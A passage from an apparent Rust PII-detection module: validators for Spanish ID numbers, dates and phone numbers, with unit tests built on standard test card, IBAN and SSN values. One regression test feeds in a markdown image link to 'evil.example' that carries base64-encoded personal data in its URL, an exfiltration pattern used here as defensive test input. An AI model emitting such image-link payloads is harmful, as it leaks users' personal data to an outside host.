            digits,
            "078051120" | "219099999" | "123456789" | "111111111"
        )
}

fn dni_letter(n: u32) -> char {
    const LETTERS: &[u8; 23] = b"TRWAGMYFPDXBNJZSQVHLCKE";
    LETTERS[(n % 23) as usize] as char
}

fn nie_valid(s: &str) -> bool {
    let chars: Vec<char> = s
        .chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .map(|c| c.to_ascii_uppercase())
        .collect();
    if chars.len() != 9 {
        return false;
    }
    let prefix = match chars[0] {
        'X' => 0,
        'Y' => 1,
        'Z' => 2,
        _ => return false,
    };
    let number: String = chars[1..8].iter().collect();
    match number.parse::<u32>() {
        Ok(n) => dni_letter(prefix * 10_000_000 + n) == chars[8],
        Err(_) => false,
    }
}

fn cif_valid(s: &str) -> bool {
    let chars: Vec<char> = s.chars().filter(|c| c.is_ascii_alphanumeric()).collect();
    if chars.len() != 9 {
        return false;
    }
    let org = chars[0];
    let digits: Vec<u32> = chars[1..8].iter().filter_map(|c| c.to_digit(10)).collect();
    if digits.len() != 7 {
        return false;
    }
    let mut sum = 0;
    for (i, d) in digits.iter().enumerate() {
        if i % 2 == 0 {
            let x = d * 2;
            sum += x / 10 + x % 10;
        } else {
            sum += d;
        }
    }
    let control = (10 - sum % 10) % 10;
    let letter = b"JABCDEFGHI"[control as usize] as char;
    let got = chars[8];
    match org {
        // Bodies that must use a letter.
        'P' | 'Q' | 'R' | 'S' | 'N' | 'W' => got == letter,
        // Companies that must use a digit.
        'A' | 'B' | 'E' | 'H' => got.to_digit(10) == Some(control),
        _ => got == letter || got.to_digit(10) == Some(control),
    }
}

/// Day, month and year form a real calendar date, in either day/month order.
fn date_valid(s: &str) -> bool {
    let nums: Vec<u32> = s
        .split(|c: char| !c.is_ascii_digit())
        .filter(|p| !p.is_empty())
        .filter_map(|p| p.parse().ok())
        .collect();
    let ok = |d: u32, m: u32| (1..=31).contains(&d) && (1..=12).contains(&m);
    match nums.as_slice() {
        [y, m, d] if *y >= 1900 => ok(*d, *m),
        [a, b, y] if *y >= 1900 => ok(*a, *b) || ok(*b, *a),
        // Textual month: the day is the small number.
        [d, y] | [y, d] if *y >= 1900 => (1..=31).contains(d),
        _ => false,
    }
}

/// The score of a phone-number candidate, or `None` if it does not look like one.
fn phone_score(text: &str, start: usize, end: usize) -> Option<f32> {
    let s = &text[start..end];
    // Extensions are not counted as number digits.
    let number = s
        .find(['x', 'e'])
        .map_or(s, |p| s[..p].trim_end_matches([' ', '\t']));
    let digits = digits_of(number);
    let international = number.starts_with('+');
    if !(7..=15).contains(&digits.len())
        || adjacent(text, start, end, |c| c.is_ascii_alphanumeric())
    {
        return None;
    }
    // Directly after `1.`, `1,`, `1/` or `1-`: part of a longer number, a path or a decimal.
    let mut before = text[..start].chars().rev();
    if matches!(before.next(), Some('.' | ',' | '/' | '-'))
        && before.next().is_some_and(|c| c.is_ascii_alphanumeric())
    {
        return None;
    }
    if looks_like_date_or_time(number) || number.contains("..") || number.contains("--") {
        return None;
    }
    let groups: Vec<&str> = number
        .split(|c: char| !c.is_ascii_digit())
        .filter(|g| !g.is_empty())
        .collect();
    // Version numbers, decimals and amounts: one dot and short tails, or `1.234.567`.
    let dots = number.matches('.').count();
    if dots == 1
        || (dots >= 2 && groups.iter().skip(1).all(|g| g.len() == 3) && !number.contains(' '))
    {
        return None;
    }
    // Single digits in the middle are lists or tables, not phone numbers (except the
    // `(0)` trunk marker and a leading country code).
    let singles = groups
        .iter()
        .enumerate()
        .filter(|(i, g)| g.len() == 1 && *i != 0 && !(international && *i <= 2))
        .count();
    if singles > 0 {
        return None;
    }
    // The nearer word decides: "license number" is not a phone, "Accountant ... Phone:" is.
    let positive_at = last_word_before(text, start, &PHONE_WORDS);
    let negative_at = last_word_before(text, start, &NOT_PHONE_WORDS);
    let negative = negative_at.is_some() && negative_at >= positive_at;
    let context =
        !negative && (positive_at.is_some() || context_after(text, end, &PHONE_WORDS_AFTER));
    let strong = international && digits.len() >= 8 || strong_national_format(number);
    if negative && !international {
        return None;
    }
    let score = match (strong, context) {
        (true, true) => 0.95,
        (true, false) => 0.8,
        (false, true) => 0.75,
        (false, false) => return None,
    };
    Some(score)
}

fn looks_like_date_or_time(s: &str) -> bool {
    let groups: Vec<&str> = s
        .split(|c: char| !c.is_ascii_digit())
        .filter(|g| !g.is_empty())
        .collect();
    let b = s.as_bytes();
    // 2024-05-01, 2024/05/01, 01/05/2024, 01-05-2024 (possibly followed by an hour).
    let year_first = groups.len() >= 3
        && groups[0].len() == 4
        && (groups[0].starts_with("19") || groups[0].starts_with("20"))
        && groups[1].len() <= 2
        && groups[2].len() <= 2;
    let year_last = groups.len() >= 3
        && groups[0].len() <= 2
        && groups[1].len() <= 2
        && groups[2].len() == 4
        && (groups[2].starts_with("19") || groups[2].starts_with("20"))
        && s.contains(['/', '.', '-']);
    year_first
        || year_last
        || b.contains(&b'/') && groups.len() == 3 && groups.iter().all(|g| g.len() <= 4)
}

/// National formats that are phone numbers without any context.
fn strong_national_format(n: &str) -> bool {
    static FORMATS: OnceLock<Regex> = OnceLock::new();
    let re = FORMATS.get_or_init(|| {
        re(r"(?x)^(?:
            # US / NANP: (202) 555-0143, 202-555-0143, 202.555.0143, 001-202-555-0143, 1-202-555-0143
            (?:00?1[\x20.\-])?\(?[2-9]\d{2}\)?[\x20.\-]?[2-9]\d{2}[\x20.\-]\d{4}
            # Spain: 612 345 678, 612 34 56 78, 91 123 45 67, 912 345 678
            | [6789]\d{2}\x20\d{3}\x20\d{3}
            | [6789]\d{2}\x20\d{2}\x20\d{2}\x20\d{2}
            | [89]\d\x20\d{3}\x20\d{2}\x20\d{2}
            # UK: 07700 900123, 07700 900 123, 020 7946 0958, 0161 496 0000
            | 07\d{3}\x20?\d{3}\x20?\d{3}
            | 0\d{2,4}\x20\d{3,4}\x20\d{3,4}
            # France / Belgium / Switzerland: 01 23 45 67 89, 01.23.45.67.89, 0xx xxx xx xx
            | 0\d(?:[\x20.\-]\d{2}){4}
            | 0\d{2,3}\x20\d{2,3}\x20\d{2}\x20\d{2}
            # Germany: 030 12345678, 030/1234567, 0171 1234567
            | 0\d{2,4}[\x20/\-]\d{5,8}
            # Mexico: 55 1234 5678
            | \d{2}\x20\d{4}\x20\d{4}
            # Australia and others in brackets: (02) 1234 5678, (08) 8747 6301
            | \(0?\d{1,2}\)\x20?\d{4}[\x20\-]?\d{4}
        )$")
    });
    re.is_match(n)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rampart_core::Role;

    /// The byte prefilter must never hide a window in which the pattern set matches:
    /// random windows over the bytes the patterns care about (digits, hex letters,
    /// separators, other letters, spaces), plus every entity of the unit tests.
    #[test]
    fn next_digit_finds_what_a_byte_scan_finds() {
        let mut next = crate::test_rng::xorshift(0x2545_F491_4F6C_DD1Du64);
        let alphabet = b"0123456789/:@`~ \x7f\x80\xb0\xb9\xff\xaf\xba\xc3abc";
        for _ in 0..20_000 {
            let len = (next() % 40) as usize;
            let b: Vec<u8> = (0..len)
                .map(|_| alphabet[(next() % alphabet.len() as u64) as usize])
                .collect();
            for from in 0..=len {
                let naive = b[from..]
                    .iter()
                    .position(u8::is_ascii_digit)
                    .map(|k| from + k);
                assert_eq!(next_digit(&b, from), naive, "{b:?} from {from}");
            }
        }
        let all: Vec<u8> = (0..=255).collect();
        for from in 0..all.len() {
            let naive = all[from..]
                .iter()
                .position(u8::is_ascii_digit)
                .map(|k| from + k);
            assert_eq!(next_digit(&all, from), naive);
        }
    }

    #[test]
    fn next_shape_stop_finds_what_a_byte_scan_finds() {
        let mut next = crate::test_rng::xorshift(0x2545_F491_4F6C_DD1Du64);
        let alphabet = b"0123456789-.:/,;+ \x7f\x80\xad\xae\xaf\xba\xbb\xffabc";
        let naive = |b: &[u8], from: usize| {
            b[from..]
                .iter()
                .position(|&c| SHAPE_STOP[usize::from(c)])
                .map(|k| from + k)
        };
        for _ in 0..20_000 {
            let len = (next() % 40) as usize;
            let b: Vec<u8> = (0..len)
                .map(|_| alphabet[(next() % alphabet.len() as u64) as usize])
                .collect();
            for from in 0..=len {
                assert_eq!(next_shape_stop(&b, from), naive(&b, from), "{b:?} {from}");
            }
        }
        let all: Vec<u8> = (0..=255).chain(0..=255).collect();
        for from in 0..=all.len() {
            assert_eq!(next_shape_stop(&all, from), naive(&all, from));
        }
    }

    #[test]
    fn numeric_shape_never_hides_a_pattern_set_match() {
        let detector = PiiDetector::new();
        let alphabet =
            b"0123456789012345678901234567890123456789abcdefABCDEFxyzXYZ:::---...  \t()/+";
        let mut next = crate::test_rng::xorshift(0x9E37_79B9_7F4A_7C15u64);
        let (mut matched, mut skipped) = (0, 0);
        for _ in 0..200_000 {
            let len = 4 + (next() % 40) as usize;
            let w: Vec<u8> = (0..len)
                .map(|_| alphabet[(next() % alphabet.len() as u64) as usize])
                .collect();
            let w = std::str::from_utf8(&w).unwrap();
            let set = detector.numeric_set.matches(w).matched_any();
            assert!(numeric_shape(w.as_bytes()) || !set, "{w:?}");
            matched += usize::from(set);
            skipped += usize::from(!numeric_shape(w.as_bytes()));
        }
        // Both outcomes occur, so the property was exercised.
        assert!(matched > 1_000 && skipped > 1_000, "{matched} {skipped}");
        for w in [
            "ES91 2100 0418 4502 0005 1332",
            "4111 1111 1111 1111",
            "123-45-6789",
            "12.345.678-Z",
            "X1234567L",
            "B12345678",
            "192.168.0.1",
            "fe80::1",
            "00:1A:2b:3C:4d:5E",
            "00-1a-2b-3c-4d-5e",
            "001a.2b3c.4d5e",
            "+34 612 345 678",
            "(555) 123-4567",
            "3 de marzo de 1990",
            "March 3rd, 1990",
        ] {
            assert!(detector.numeric_set.matches(w).matched_any(), "{w:?}");
            assert!(numeric_shape(w.as_bytes()), "{w:?}");
        }
    }

    fn found(s: &str) -> Vec<(String, String)> {
        static DETECTOR: std::sync::OnceLock<PiiDetector> = std::sync::OnceLock::new();
        let n = Normalized::new(s);
        let mut out = Detections::default();
        DETECTOR
            .get_or_init(PiiDetector::new)
            .detect(&n, &Context::input(Role::User), &mut out)
            .unwrap();
        out.findings
            .iter()
            .map(|f| {
                (
                    f.entity.clone(),
                    s.chars().skip(f.start).take(f.end - f.start).collect(),
                )
            })
            .collect()
    }

    fn types(s: &str) -> Vec<String> {
        found(s).into_iter().map(|(t, _)| t).collect()
    }

    fn one(s: &str, entity: &str, value: &str) {
        let f = found(s);
        assert_eq!(f, vec![(entity.to_owned(), value.to_owned())], "in {s:?}");
    }

    #[test]
    fn emails_and_file_names() {
        one(
            "write to ana.gomez+x@correo.example.es today",
            "EMAIL_ADDRESS",
            "ana.gomez+x@correo.example.es",
        );
        assert!(types("see logo@2x.png").is_empty());
    }

    #[test]
    fn zero_width_inside_an_email_maps_to_the_original_span() {
        one(
            "mail an\u{200B}a@example.es",
            "EMAIL_ADDRESS",
            "an\u{200B}a@example.es",
        );
    }

    #[test]
    fn cards_need_luhn_and_an_issuer_range() {
        one(
            "card 4111 1111 1111 1111 ok",
            "CREDIT_CARD",
            "4111 1111 1111 1111",
        );
        one("pay 378282246310005", "CREDIT_CARD", "378282246310005");
        one(
            "mc 5555-5555-5555-4444",
            "CREDIT_CARD",
            "5555-5555-5555-4444",
        );
        // Luhn fails.
        assert!(types("card 4111 1111 1111 1112").is_empty());
        // Luhn passes, no issuer starts with 9.
        assert!(types("order 9000000000000008").is_empty());
        // Luhn-valid Visa digits, but grouped like an order reference.
        assert!(!types("ref 41111111-11111111").contains(&"CREDIT_CARD".to_owned()));
    }

    #[test]
    fn ibans_need_country_length_and_mod97() {
        one(
            "IBAN ES91 2100 0418 4502 0005 1332.",
            "IBAN_CODE",
            "ES91 2100 0418 4502 0005 1332",
        );
        one(
            "to gb82west12345698765432 now",
            "IBAN_CODE",
            "gb82west12345698765432",
        );
        one(
            "DE89370400440532013000",
            "IBAN_CODE",
            "DE89370400440532013000",
        );
        assert!(
            types("ES92 2100 0418 4502 0005 1332")
                .iter()
                .all(|t| t != "IBAN_CODE")
        );
        // Right checksum shape but wrong length for the country.
        assert!(
            types("ES91 2100 0418 4502 0005 13")
                .iter()
                .all(|t| t != "IBAN_CODE")
        );
    }

    #[test]
    fn ssn_ranges() {
        one("SSN 536-90-4399", "US_SSN", "536-90-4399");
        one("ssn: 536904399", "US_SSN", "536904399");
        for bad in [
            "000-12-3456",
            "666-12-3456",
            "912-12-3456",
            "536-00-4399",
            "536-90-0000",
            "078-05-1120",
        ] {
            assert!(
                types(&format!("SSN {bad}")).iter().all(|t| t != "US_SSN"),
                "{bad}"
            );
        }
        // Nine bare digits without context are not an SSN.
        assert!(types("order 536904399").iter().all(|t| t != "US_SSN"));
    }

    #[test]
    fn spanish_identifiers_check_letters() {
        one("DNI 12345678Z", "ES_NIF", "12345678Z");
        one("mi NIF es 12.345.678-z", "ES_NIF", "12.345.678-z");
        assert!(types("DNI 12345678A").is_empty());
        one("NIE X1234567L", "ES_NIE", "X1234567L");
        one("NIE Y-1234567-X", "ES_NIE", "Y-1234567-X");
        assert!(types("NIE X1234567A").is_empty());
        one("CIF B12345674", "ES_CIF", "B12345674");
        one("CIF Q2826000H", "ES_CIF", "Q2826000H");
        assert!(types("CIF B12345675").is_empty());
        // A must-use-letter body with a digit check character.
        assert!(types("CIF Q28260008").is_empty());
    }

    #[test]
    fn ip_and_mac_addresses_but_not_versions() {
        one("from 192.168.1.20 at noon", "IP_ADDRESS", "192.168.1.20");
        one(
            "host 2001:db8::8a2e:370:7334 up",
            "IP_ADDRESS",
            "2001:db8::8a2e:370:7334",
        );
        one("nic 00:1A:2B:3C:4D:5E", "MAC_ADDRESS", "00:1A:2B:3C:4D:5E");
        assert!(types("version 1.2.3.4 released").is_empty());
        // Versions in an upgrade sentence, in several languages.
        for text in [
            "upgraded the cluster from 1.9.14.8 to 8.3.2.8 last night",
            "We bumped the agent 2.4.1.0 -> 2.5.0.1 today",
            "se actualizó el firmware de 3.1.2.4 a 3.2.0.1",
        ] {
            assert!(types(text).is_empty(), "{text}: {:?}", types(text));
        }
        // Addresses in a move between hosts stay addresses.
        assert_eq!(
            types("migrated the server from 10.0.0.1 to 10.0.0.2"),
            vec!["IP_ADDRESS", "IP_ADDRESS"]
        );
        assert!(types("oid 1.3.6.1.4.1 and 300.1.2.3").is_empty());
        assert!(types("use std::io::Read; at 12:30:45").is_empty());
    }

    #[test]
    fn phones_in_national_and_international_formats() {
        one("call +34 612 345 678", "PHONE_NUMBER", "+34 612 345 678");
        one("Llámame al 612 34 56 78", "PHONE_NUMBER", "612 34 56 78");
        one(
            "office (202) 555-0143 x12",
            "PHONE_NUMBER",
            "(202) 555-0143 x12",
        );
        one("UK 07700 900123 please", "PHONE_NUMBER", "07700 900123");
        one("tél 01 23 45 67 89", "PHONE_NUMBER", "01 23 45 67 89");
        one("Tel.: 030 12345678", "PHONE_NUMBER", "030 12345678");
        one("Fax: 9498777106", "PHONE_NUMBER", "9498777106");
        one("+52 55 1234 5678", "PHONE_NUMBER", "+52 55 1234 5678");
    }

    #[test]
    fn numbers_that_are_not_phones() {
        for s in [
            "order 1234567890 shipped",
            "at 2024-05-01 12:30:00",
            "on 01/05/2024",
            "total 1.234.567 EUR",
            "pi is 3.14159265",
            "uuid 123e4567-e89b-12d3-a456-426614174000",
            "sha 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
            "rows 1 2 3 4 5 6 7 8",
            "version 10.4.12",
            "1700000000123 ms since epoch",
        ] {
            assert!(types(s).is_empty(), "{s}: {:?}", found(s));
        }
    }

    #[test]
    fn dates_of_birth_need_context() {
        one("Date of birth: 14/03/1985", "DATE_OF_BIRTH", "14/03/1985");
        one(
            "nacido el 3 de marzo de 1990 en Lugo",
            "DATE_OF_BIRTH",
            "3 de marzo de 1990",
        );
        one("born on March 3, 1990", "DATE_OF_BIRTH", "March 3, 1990");
        assert!(types("meeting on 14/03/1985").is_empty());
        assert!(types("born 31/31/1985").is_empty());
    }

    #[test]
    fn base64_encoded_email_points_at_the_blob() {
        // base64("contact ana@example.es")
        one(
            "data: Y29udGFjdCBhbmFAZXhhbXBsZS5lcw== end",
            "EMAIL_ADDRESS",
            "Y29udGFjdCBhbmFAZXhhbXBsZS5lcw==",
        );
    }
}

#[cfg(test)]
mod context_boundary_tests {
    use crate::{Context, Guard, Policy};

    /// Regression: a context word at the end of the text ("Contact") made the phone
    /// rule fire on digits decoded from a base64 blob earlier in the text, so a stream
    /// chunk ending there found a phone that whole-text inspection did not.
    #[test]
    fn context_does_not_cross_into_decoded_segments() {
        let g = Guard::new(Policy::default()).unwrap();
        let t =
            "![x](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) and more. Contact";
        let d = g.detect(t, Context::output()).unwrap();
        assert!(
            d.findings.iter().all(|f| f.entity != "PHONE_NUMBER"),
            "{:?}",
            d.findings
        );
    }
}
